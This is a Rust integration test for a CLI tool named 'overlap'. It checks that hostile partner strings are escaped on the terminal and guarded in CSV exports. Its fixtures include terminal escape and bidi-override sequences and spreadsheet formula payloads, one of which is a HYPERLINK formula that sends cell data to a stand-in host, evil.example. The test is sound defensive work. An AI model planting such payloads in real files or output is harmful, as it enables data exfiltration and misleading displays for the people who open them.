//! The partner's strings through the CLI: population names that are terminal escapes or formulas
//! reach the terminal escaped and the CSV files guarded, in both `--csv-for` flavours.

use std::path::{Path, PathBuf};
use std::process::{Command, Output};

const BIN: &str = env!("CARGO_BIN_EXE_overlap");

/// A population name that clears the screen and reverses the text after it.
const ESCAPES: &str = "Evil\x1b[2J\u{202E}sremotsuC";

fn dir(name: &str) -> PathBuf {
    let d = std::env::temp_dir().join(format!("overlap-cli-{name}-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&d);
    std::fs::create_dir_all(&d).unwrap();
    d
}

fn run(args: &[&str]) -> Output {
    let out = Command::new(BIN).args(args).env("OVERLAP_SECRET", "Zq7!mR2#vL9@xT4$wK").output().unwrap();
    assert!(out.status.success(), "overlap {args:?}: {}", String::from_utf8_lossy(&out.stderr));
    out
}

fn p(d: &Path, f: &str) -> String {
    d.join(f).to_string_lossy().into_owned()
}

/// A's export: a phone number, a formula of its own, a name with an accent.
const A: &str = "Name,Website,Phone,Type\n\
                 Débora AB,debora.se,+46 70 123 45 67,Customer\n\
                 Acme,acme.com,\"=HYPERLINK(\"\"http://evil.example/\"\"&A1)\",Customer\n\
                 Other,other.org,-12.5,Prospect\n";
/// B's export, read with hostile population names.
const B: &str = "Company,Domain\nDebora,debora.se\nACME,acme.com\nNope,nope.net\n";

fn hostile_populations() -> Vec<String> {
    ["@SUM(A1)=*", "＋A1=*", &format!("{ESCAPES}=*")].iter().flat_map(|r| ["--population".to_string(), r.to_string()]).collect()
}

fn assert_printable(what: &str, text: &str) {
    assert!(!text.contains('\x1b'), "{what}: an escape reached the terminal: {text:?}");
    assert!(!text.contains('\u{202E}'), "{what}: a bidi override reached the terminal: {text:?}");
}

#[test]
fn quick_mode_prints_partner_names_escaped_and_writes_them_guarded() {
    let d = dir("quick");
    std::fs::write(d.join("a.csv"), A).unwrap();
    std::fs::write(d.join("b.csv"), B).unwrap();
    for (flavour, extra) in [("excel", &[][..]), ("crm", &["--csv-for", "crm"][..])] {
        // A starts a quick session; B answers it under hostile population names; A finishes.
        run(&["quick", "start", "--csv", &p(&d, "a.csv"), "--state", &p(&d, "a.quick"), "--out", &p(&d, "a.msg")]);
        let mut b_args =
            vec!["quick".to_string(), "answer".into(), "--csv".into(), p(&d, "b.csv"), "--partner".into(), p(&d, "a.msg")];
        b_args.extend(["--out".into(), p(&d, "b.msg"), "--report".into(), p(&d, "b-report.csv")]);
        b_args.extend(hostile_populations());
        let b = run(&b_args.iter().map(String::as_str).collect::<Vec<_>>());
        assert_printable("B's own reading", &String::from_utf8_lossy(&b.stderr));
        let mut args = vec!["quick", "finish", "--csv", &p(&d, "a.csv")[..], "--state", &p(&d, "a.quick")[..], "--partner"]
            .into_iter()
            .map(String::from)
            .collect::<Vec<_>>();
        args.extend([
            p(&d, "b.msg"),
            "--report".into(),
            p(&d, "r.csv"),
            "--matrix".into(),
            p(&d, "m.csv"),
            "--issues".into(),
            p(&d, "i.csv"),
        ]);
        args.extend(extra.iter().map(|s| s.to_string()));
        let out = run(&args.iter().map(String::as_str).collect::<Vec<_>>());
        let stdout = String::from_utf8(out.stdout).unwrap();
        assert_printable("the matrix", &stdout);
        assert_printable("stderr", &String::from_utf8_lossy(&out.stderr));
        assert!(stdout.contains("Evil\\u{1b}[2J\\u{202e}sremotsuC"), "the name is shown, escaped: {stdout}");
        assert!(stdout.contains("2 of my 3 rows overlap"), "{stdout}");

        let matrix = std::fs::read(d.join("m.csv")).unwrap();
        let report = std::fs::read(d.join("r.csv")).unwrap();
        let issues = std::fs::read(d.join("i.csv")).unwrap();
        let bom = "\u{FEFF}".as_bytes();
        for (name, bytes) in [("matrix", &matrix), ("report", &report), ("issues", &issues)] {
            assert_eq!(bytes.starts_with(bom), flavour == "excel", "{flavour} {name}: a BOM only for Excel");
        }
        let matrix = String::from_utf8(matrix).unwrap();
        let report = String::from_utf8(report).unwrap();
        // The partner's names: guarded in the matrix header and in the report's population cell.
        assert!(matrix.contains(",'@SUM(A1),'＋A1,"), "{flavour}: {matrix}");
        assert!(report.contains(",\"'@SUM(A1);＋A1;"), "{flavour}: {report}");
        // A's own formula is guarded in both; its phone number and signed number only for Excel.
        assert!(report.contains("\"'=HYPERLINK(\"\"http://evil.example/\"\"&A1)\""), "{flavour}: {report}");
        if flavour == "excel" {
            assert!(report.contains(",'+46 70 123 45 67,"), "{report}");
        } else {
            assert!(report.contains(",+46 70 123 45 67,"), "{report}");
        }
    }
}

#[test]
fn inspect_prints_partner_names_escaped() {
    let d = dir("inspect");
    std::fs::write(d.join("b.csv"), B).unwrap();
    let mut args: Vec<String> = ["offer", "--csv"].map(String::from).to_vec();
    args.extend([p(&d, "b.csv"), "--state".into(), p(&d, "b.state"), "--out".into(), p(&d, "1.msg")]);
    args.extend(hostile_populations());
    run(&args.iter().map(String::as_str).collect::<Vec<_>>());
    let out = run(&["inspect", &p(&d, "1.msg")]);
    let stdout = String::from_utf8(out.stdout).unwrap();
    assert_printable("inspect", &stdout);
    assert!(stdout.contains("population: Evil\\u{1b}[2J\\u{202e}sremotsuC ("), "{stdout}");
}

#[test]
fn csv_for_takes_excel_or_crm_only() {
    let out = Command::new(BIN).args(["offer", "--csv-for", "json"]).output().unwrap();
    assert!(!out.status.success());
    assert!(String::from_utf8_lossy(&out.stderr).contains("--csv-for json: expected excel or crm"));
}
